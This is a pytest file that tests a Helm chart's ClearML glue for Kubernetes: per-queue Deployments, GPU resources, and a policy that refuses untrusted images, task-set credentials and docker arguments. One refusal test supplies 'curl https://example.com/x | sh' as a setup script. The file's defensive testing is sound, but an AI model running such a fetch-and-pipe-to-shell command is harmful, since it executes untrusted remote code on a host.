"""The ClearML glue as the chart renders it: one glue Deployment per queue, each queue's step pods
with their own resources and placement, and the glue's own code (files/mlrig_glue.py, taken from
the rendered ConfigMap) starting only trusted images.

No cluster and no ClearML server run here. The glue's methods are called as clearml-agent's
`run_one_task` calls them, on a task ClearML's SDK builds (`CreateAndPopulate`, dry run), with a
fake `kubectl` on PATH that records what it is asked to apply, and clearml-agent's own API client
over a transport that records each request the glue sends to the server.
"""

from __future__ import annotations

import ast
import copy
import importlib.util
import inspect
import json
import logging
import shlex
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest
import yaml

from tests.chart.conftest import KubeTools

GPU_VALUES = "gpu-queues-values.yaml"
PREFIX = "registry.example.com/team/mlrig/steps/"
DIGEST = "sha256:" + "c" * 64
TRUSTED_IMAGE = f"{PREFIX}train@{DIGEST}"
TASK_ID = "0123456789abcdef"


def named(objects: list[dict[str, Any]], kind: str) -> dict[str, dict[str, Any]]:
    return {item["metadata"]["name"]: item for item in objects if item["kind"] == kind}


def queue_templates(objects: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    """Each queue's step pod template, by queue."""
    return {
        item["metadata"]["labels"]["mlrig.io/queue"]: yaml.safe_load(item["data"]["template.yaml"])
        for item in named(objects, "ConfigMap").values()
        if "template.yaml" in item["data"]
    }


def environment(container: dict[str, Any]) -> dict[str, Any]:
    return {variable["name"]: variable.get("value") for variable in container.get("env", [])}


def test_each_queue_has_its_own_glue_deployment_and_pod_template(
    rendered: dict[str, list[dict[str, Any]]],
) -> None:
    objects = rendered[GPU_VALUES]
    glues = {
        name: deployment
        for name, deployment in named(objects, "Deployment").items()
        if name.startswith("mlrig-agent-")
    }
    assert set(glues) == {"mlrig-agent-default", "mlrig-agent-gpu", "mlrig-agent-gpu-large"}
    selectors = []
    for name, deployment in glues.items():
        queue = name.removeprefix("mlrig-agent-")
        pod = deployment["spec"]["template"]["spec"]
        (glue,) = pod["containers"]
        settings = environment(glue)
        assert settings["MLRIG_GLUE_QUEUES"] == queue
        assert settings["CLEARML_WORKER_ID"] == name  # its own pod label: maxPods per queue
        assert settings["MLRIG_GLUE_IMAGE_PREFIX"] == PREFIX
        (volume,) = [volume for volume in pod["volumes"] if volume["name"] == "glue"]
        sources = [source["configMap"]["name"] for source in volume["projected"]["sources"]]
        assert sources == ["mlrig-agent", name]  # the program, and this queue's template
        selectors.append(deployment["spec"]["selector"]["matchLabels"])
    assert all(selectors.count(selector) == 1 for selector in selectors)
    assert {environment(glues[name]["spec"]["template"]["spec"]["containers"][0])[
        "MLRIG_GLUE_MAX_PODS"] for name in glues} == {"4", "2", "1"}  # fmt: skip


def gpu_request(resources: dict[str, Any]) -> tuple[Any, Any]:
    return (
        resources.get("requests", {}).get("nvidia.com/gpu"),
        resources.get("limits", {}).get("nvidia.com/gpu"),
    )


def test_a_gpu_queues_pods_request_the_gpu_and_no_other_pod_does(
    rendered: dict[str, list[dict[str, Any]]],
) -> None:
    objects = rendered[GPU_VALUES]
    templates = queue_templates(objects)
    assert set(templates) == {"default", "gpu", "gpu-large"}
    step = {queue: template["spec"] for queue, template in templates.items()}
    resources = {queue: spec["containers"][0]["resources"] for queue, spec in step.items()}
    assert gpu_request(resources["gpu"]) == (1, 1)
    assert gpu_request(resources["gpu-large"]) == (4, 4)
    assert gpu_request(resources["default"]) == (None, None)
    # the queue's own resources over the step pod's defaults
    assert resources["gpu"]["requests"] == {"cpu": "500m", "memory": "8Gi", "nvidia.com/gpu": 1}
    assert resources["default"]["limits"] == {"cpu": "2", "memory": "4Gi"}
    # placement only where the queue asks for it
    assert step["gpu"]["nodeSelector"] == {"nvidia.com/gpu.present": "true"}
    assert (step["gpu"]["priorityClassName"], step["gpu"]["runtimeClassName"]) == (
        "mlrig-gpu",
        "nvidia",
    )
    assert "nodeAffinity" in step["gpu-large"]["affinity"]
    for key in ("nodeSelector", "tolerations", "affinity", "priorityClassName", "runtimeClassName"):
        assert key not in step["default"], key
    # no workload of the chart asks for a GPU: the glues (the queues' controllers) included
    for name, deployment in named(objects, "Deployment").items():
        for container in deployment["spec"]["template"]["spec"]["containers"]:
            assert gpu_request(container["resources"]) == (None, None), name


def test_the_queues_resources_for_the_submitter_are_those_of_their_pods(
    rendered: dict[str, list[dict[str, Any]]], monkeypatch: pytest.MonkeyPatch
) -> None:
    from mlrig.executors.clearml.resources import queue_capacities
    from mlrig.settings import Settings

    objects = rendered[GPU_VALUES]
    text = named(objects, "ConfigMap")["mlrig-agent"]["data"]["queue-resources.json"]
    monkeypatch.setenv("MLRIG_CLEARML_QUEUE_RESOURCES", text)  # as the submitter reads it
    settings = Settings()
    capacities = queue_capacities(settings.clearml_queue_resources)
    for queue, template in queue_templates(objects).items():
        limits = template["spec"]["containers"][0]["resources"]["limits"]
        provided = capacities[queue]
        assert provided.gpu == int(limits.get("nvidia.com/gpu", 0)), queue
        assert (provided.cpu, provided.memory) == (str(limits["cpu"]), limits["memory"]), queue


@pytest.mark.parametrize(
    ("setting", "problem"),
    [
        ("agent.trustedImages.prefix=", "agent.enabled needs agent.trustedImages.prefix"),
        (
            "agent.queues.gpu.pod.resources.requests.nvidia\\.com/gpu=2",
            "agent.queues.gpu.pod.resources asks for nvidia.com/gpu 2 (requests) and 1 (limits)",
        ),
        ("agent.stepPod.resources.limits.nvidia\\.com/gpu=1", "additional properties"),
        ("agent.queues.GPU_A100.maxPods=1", "GPU_A100"),
    ],
)
def test_wrong_queue_values_are_refused_naming_them(
    kube_tools: KubeTools, setting: str, problem: str
) -> None:
    """No GPU on every queue's defaults, a queue name that can name a Deployment, a prefix."""
    from tests.chart.conftest import values_arguments

    result = kube_tools.template(*values_arguments(GPU_VALUES), "--set", setting)
    assert result.returncode != 0
    assert problem in result.stderr, result.stderr


# --- the glue's own code ----------------------------------------------------------------------


def rendered_glue(objects: list[dict[str, Any]], folder: Path) -> ModuleType:
    """files/mlrig_glue.py as the rendered ConfigMap holds it, imported."""
    path = folder / "glue.py"
    path.write_text(named(objects, "ConfigMap")["mlrig-agent"]["data"]["glue.py"])
    spec = importlib.util.spec_from_file_location("mlrig_rendered_glue", path)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_the_glue_program_passes_clearml_agent_arguments_it_takes(
    rendered: dict[str, list[dict[str, Any]]], tmp_path: Path
) -> None:
    from clearml_agent.glue.k8s import K8sIntegration

    module = rendered_glue(rendered[GPU_VALUES], tmp_path)
    assert module.missing_hooks() == []  # this clearml-agent (3.0.3) has every hooked method
    program = ast.parse(inspect.getsource(module))
    calls = {
        node.func.id if isinstance(node.func, ast.Name) else node.func.attr: node
        for node in ast.walk(program)
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Name | ast.Attribute)
    }
    accepted = set(inspect.signature(K8sIntegration.__init__).parameters)
    used = {keyword.arg for keyword in calls["TrustedImageGlue"].keywords}
    assert used and used <= accepted, used - accepted
    assert {keyword.arg for keyword in calls["k8s_daemon"].keywords} == {"create_queue"}


class ServerCalls:
    """What the glue sends the ClearML server: clearml-agent's own API client (its request
    classes) over a transport that records each request instead of sending it."""

    api_version = "2.13"

    def __init__(self) -> None:
        from clearml_agent.backend_api.session.client import APIClient

        self.requests: list[Any] = []
        self.api_client = APIClient(session=self)

    def send(self, request: Any) -> Any:
        self.requests.append(request)
        return request

    def get(self, **call: Any) -> dict[str, Any]:  # the glue's user properties of the task
        self.requests.append(call)
        return {}

    def check_min_api_version(self, version: str) -> bool:
        return True

    def of(self, kind: str) -> list[dict[str, Any]]:
        return [request.to_dict() for request in self.requests if type(request).__name__ == kind]


@dataclass
class Glue:
    """The chart's glue of queue `gpu`, its kubectl's record and its server calls."""

    code: Any
    template: dict[str, Any]
    applied: Path
    server: ServerCalls

    def applied_pods(self) -> list[dict[str, Any]]:
        return [yaml.safe_load(path.read_text()) for path in sorted(self.applied.glob("*.yml"))]

    def run_task(self, container: dict[str, Any]) -> None:
        """What clearml-agent's run_one_task does with a task once its template is resolved."""
        self.code.apply_template_and_handle_result(
            pod_name=f"clearml-id-{TASK_ID}",
            clearml_conf_create_script=[],
            labels=["clearml-agent-queue-name=gpu"],
            queue="queue-id-gpu",
            task_id=TASK_ID,
            namespace="mlrig",
            template=copy.deepcopy(self.template),
            docker_image=container.get("image"),
            docker_args=shlex.split(container.get("arguments") or ""),  # as get_task_container
            docker_bash=container.get("setup_shell_script"),
            session=self.server,
            task_session=None,
            queue_name="gpu",
            task_data={"parent": "controller-id"},
            ports_mode=False,
            pod_count=0,
            pod_number=1,
        )


FAKE_KUBECTL = """#!/bin/sh
# records the file it is asked to apply (the last argument), as `kubectl apply -f FILE` reads it
for argument; do file=$argument; done
cp "$file" "$RECORD/$(date +%s%N).yml"
echo "pod/applied created"
"""


@pytest.fixture
def glue(
    rendered: dict[str, list[dict[str, Any]]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Glue]:
    objects = rendered[GPU_VALUES]
    module = rendered_glue(objects, tmp_path)
    # the policy as the chart configures queue gpu's glue
    deployment = named(objects, "Deployment")["mlrig-agent-gpu"]
    policy = module.policy_from_environment(
        environment(deployment["spec"]["template"]["spec"]["containers"][0])
    )
    tools, applied = tmp_path / "bin", tmp_path / "applied"
    tools.mkdir()
    applied.mkdir()
    (tools / "kubectl").write_text(FAKE_KUBECTL)
    (tools / "kubectl").chmod(0o755)
    monkeypatch.setenv("PATH", f"{tools}:{Path(sys.executable).parent}:/usr/bin:/bin")
    monkeypatch.setenv("RECORD", str(applied))
    monkeypatch.delenv("K8S_GLUE_POD_USE_IMAGE_ENTRYPOINT", raising=False)
    server = ServerCalls()
    code = object.__new__(module.TrustedImageGlue)  # K8sIntegration.__init__ logs in to a server
    code.mlrig_policy = policy
    code.kind, code.using_jobs, code._docker_force_pull = "pod", False, False
    code.log, code.worker_id = logging.getLogger("mlrig-glue-test"), "mlrig-agent-gpu"
    code.k8s_pending_queue_id, code._session = "k8s-scheduler-queue-id", server
    code._edit_hyperparams_support, code._user_props_cb, code._runtime_cb = None, None, None
    code.ignore_kubectl_errors_re = None
    yield Glue(code, queue_templates(objects)["gpu"], applied, server)


def step_container(
    image: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, **extra: str
) -> dict[str, Any]:
    """The container section of a step's task as ClearML's SDK makes it (mlrig's own task
    arguments), with `extra` environment variables added to its container arguments."""
    from clearml import Task
    from clearml.backend_interface.task.populate import CreateAndPopulate

    from mlrig.executors.clearml.submit import bash_task_arguments
    from tests.support.project import REPO_ROOT

    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("CLEARML_OFFLINE_MODE", "1")
    monkeypatch.setenv("CLEARML_CONFIG_FILE", str(REPO_ROOT / "src/mlrig/clearml-offline.conf"))
    # ClearML reads CLEARML_OFFLINE_MODE once, when first imported; no server runs here
    Task.set_offline(offline_mode=True)
    step = {"MLRIG_STAGE": "train@xgboost", "MLRIG_INPUT_KEY": "f" * 64}
    arguments = bash_task_arguments(
        "mlrig", "train@xgboost", "mlrig-stage train@xgboost", image, environment=step | extra
    )
    task = CreateAndPopulate(**arguments, raise_on_missing_entries=False).create_task(dry_run=True)
    return dict(task["container"])


def test_the_glue_starts_a_trusted_step_image_with_the_templates_credentials(
    glue: Glue, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    glue.run_task(step_container(TRUSTED_IMAGE, monkeypatch, tmp_path))

    (pod,) = glue.applied_pods()
    (container,) = pod["spec"]["containers"]
    assert container["image"] == TRUSTED_IMAGE
    assert "command" not in container and "args" not in container  # the image's entrypoint
    variables = {variable["name"]: variable for variable in container["env"]}
    assert variables["MLRIG_STAGE"]["value"] == "train@xgboost"
    assert variables["CLEARML_TASK_ID"]["value"] == TASK_ID
    # the image its step's MLflow run records, from the glue (a task may not set it)
    assert variables["MLRIG_IMAGE"]["value"] == TRUSTED_IMAGE
    # the pipeline's own identity (test_chart_access.py), never the store's root keys
    secrets = {
        name: variable["valueFrom"]["secretKeyRef"]["name"]
        for name, variable in variables.items()
        if "valueFrom" in variable
    }
    assert secrets["AWS_SECRET_ACCESS_KEY"] == "mlrig-s3-pipeline"
    assert secrets["MLFLOW_TRACKING_PASSWORD"] == "mlrig-mlflow-pipeline"
    assert container["resources"]["limits"]["nvidia.com/gpu"] == 1  # the queue's pod
    assert glue.server.of("FailedRequest") == []


@pytest.mark.parametrize(
    ("image", "named_in_reason"),
    [
        (f"docker.io/library/python@{DIGEST}", "is not from the trusted registry prefix"),
        # a merge request's image: under the project, not under the trusted path
        (f"registry.example.com/team/mlrig/mr-7/train@{DIGEST}", "not from the trusted"),
        (f"{PREFIX}mr-7/train@{DIGEST}", "is not one repository under"),
        (f"{PREFIX}train:0123456789abcdef", "is not pinned by digest"),
        ("", "the task names no image"),
    ],
)
def test_the_glue_refuses_an_untrusted_image_and_fails_the_task_saying_why(
    glue: Glue,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
    image: str,
    named_in_reason: str,
) -> None:
    glue.run_task(step_container(image, monkeypatch, tmp_path))

    assert glue.applied_pods() == []  # kubectl was never asked
    (failed,) = glue.server.of("FailedRequest")
    assert failed["task"] == TASK_ID and failed["force"] is True
    assert named_in_reason in failed["status_reason"]
    assert image in failed["status_reason"]
    assert f"only {PREFIX}<name>@sha256:<digest>" in failed["status_reason"]
    assert failed["status_message"] == "refused by the mlrig glue"
    # out of the glue's pending queue, as clearml-agent does for a pod kubectl refused
    assert glue.server.of("RemoveTaskRequest") == [
        {"task": TASK_ID, "queue": "k8s-scheduler-queue-id"}
    ]


@pytest.mark.parametrize(
    ("variable", "reason"),
    [
        ("AWS_SECRET_ACCESS_KEY", "which the pod template sets"),
        ("MLFLOW_TRACKING_URI", "which the pod template sets"),
        ("HTTPS_PROXY", "which a task may not set (allowed: MLRIG_INPUT_KEY, MLRIG_STAGE"),
        ("CLEARML_TASK_ID", "which a task may not set"),
        ("MLRIG_IMAGE", "which a task may not set"),  # the glue names the image it checked
    ],
)
def test_a_task_cannot_set_the_pods_credentials_or_other_environment(
    glue: Glue, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, variable: str, reason: str
) -> None:
    glue.run_task(step_container(TRUSTED_IMAGE, monkeypatch, tmp_path, **{variable: "x"}))

    assert glue.applied_pods() == []
    (failed,) = glue.server.of("FailedRequest")
    assert f"the task sets {variable}, {reason}" in failed["status_reason"]


def test_docker_arguments_and_setup_scripts_are_refused(glue: Glue) -> None:
    glue.run_task(
        {
            "image": TRUSTED_IMAGE,
            "arguments": "--network host -e MLRIG_STAGE=train@xgboost",
            "setup_shell_script": "curl https://example.com/x | sh",
        }
    )

    assert glue.applied_pods() == []
    (failed,) = glue.server.of("FailedRequest")
    assert "container argument '--network' is not -e NAME=value" in failed["status_reason"]
    assert "setup shell script" in failed["status_reason"]


def test_the_pod_is_checked_again_where_it_is_applied(glue: Glue) -> None:
    output, error, pod_name = glue.code._kubectl_apply(
        pod_name="clearml-id-x",
        clearml_conf_create_script=[],
        docker_image="docker.io/library/python:3.11",
        docker_args=[],
        docker_bash=None,
        labels=[],
        queue="queue-id-gpu",
        task_id="x",
        namespace="mlrig",
        template=copy.deepcopy(glue.template),
    )
    assert (output, pod_name) == ("", None)
    assert error.startswith("refused by the mlrig glue: image docker.io/library/python:3.11")
    assert glue.applied_pods() == []


@pytest.mark.parametrize("prefix", ["", "/"])
def test_the_glue_does_not_start_without_a_trusted_prefix(
    rendered: dict[str, list[dict[str, Any]]], tmp_path: Path, prefix: str
) -> None:
    objects = rendered[GPU_VALUES]
    (tmp_path / "glue.py").write_text(named(objects, "ConfigMap")["mlrig-agent"]["data"]["glue.py"])
    result = subprocess.run(
        [sys.executable, str(tmp_path / "glue.py")],
        env={"MLRIG_GLUE_IMAGE_PREFIX": prefix, "HOME": str(tmp_path), "PATH": "/usr/bin:/bin"},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 2, result.stderr
    assert "MLRIG_GLUE_IMAGE_PREFIX is empty" in result.stderr
    assert "agent.trustedImages.prefix" in result.stderr
    assert "Traceback" not in result.stderr


def test_the_queue_resources_are_json_the_submitter_reads(
    rendered: dict[str, list[dict[str, Any]]],
) -> None:
    text = named(rendered["agent-values.yaml"], "ConfigMap")["mlrig-agent"]["data"][
        "queue-resources.json"
    ]
    assert json.loads(text) == {
        "default": {"gpu": 0, "cpu": "2", "memory": "4Gi"},
        "cpu": {"gpu": 0, "cpu": "2", "memory": "4Gi"},
    }
